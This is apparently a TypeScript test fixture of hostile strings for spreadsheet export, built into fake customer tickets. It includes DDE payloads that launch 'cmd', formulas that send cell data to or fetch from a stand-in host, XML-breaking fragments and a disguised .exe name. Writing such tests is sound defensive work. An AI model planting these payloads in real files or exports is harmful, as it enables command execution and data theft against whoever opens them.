/** Texts that spreadsheets run, type, cut or break on; each is a subject, and part of an id. */
export const hostileTexts: readonly string[] = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '\u00A0=1+1', '\u0001=1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)', '｜=1+1',
  '=HYPERLINK("http://192.0.2.1/?"&A1;"click")', '=HYPERLINK("http://192.0.2.1/","click")', "=cmd|'/C calc'!A0", "+cmd|'/C calc'!A0", "@SUM(1+1)*cmd|'/C calc'!A0", 'DDE("cmd";"/C calc";"x")', '=DDE("cmd";"/C calc";"x")',
  '=WEBSERVICE("http://192.0.2.1/")', '=IMPORTXML("http://192.0.2.1/";"//a")', '=INDIRECT("A1")', '{=1+1}', '=1+1;=1+1', '","=1+1', '";"=1+1', '"\r\n=1+1', '"=1+1"', "'=1+1", "'", '"', '""', ';', ',', '\t',
  'a\u0000b', '\u0000=1+1', 'bell\u0007 escape\u001B[31m', 'form\u000Cfeed', '\u202Egpj.exe', '\u2066hidden\u2069', 'zero\u200Bwidth', '\uFEFFmark', 'half \ud83d', '\udc00 half', '\uFFFE', '\u0085next\u2028line',
  'a\nb\nc', 'a\r\nb', '  padded  ', 'constructor', '__proto__', 'toString', '_x0041_', '_x000D_', '_x005F_x0041_', '<f>1+1</f>', '</t></is></c><c><f>1+1</f></c>', ']]>', '<![CDATA[x]]>', '&amp;&lt;', '<!--', '<?xml?>', '%00', '\\0',
  '👩‍💻 déjà vu', 'مرحبا =1+1', 'x'.repeat(40_000), '👩'.repeat(20_000), '=1+1 '.repeat(8000), 'line\n'.repeat(400),
]

/** Tickets of customers who mean harm, and some reasons to score them. */
export const hostileTickets = (count: number): string =>
  Array.from({ length: count }, (_, index) => {
    const text = hostileTexts[index % hostileTexts.length] ?? ''
    const body = `${text}\nI have been waiting for days, this is unacceptable. I need to load an SSL on my site.\n${text.slice(0, 200)}`
    return `${JSON.stringify({ id: `${text.slice(0, 40)}#${index}`, subject: text, status: 'open', createdAt: '2026-01-12T08:00:00Z', messages: [{ author: 'customer', at: '2026-01-12T08:00:00Z', body }, { author: 'customer', at: '2026-01-15T08:00:00Z', body: text.slice(0, 500) }] })}\n`
  }).join('')
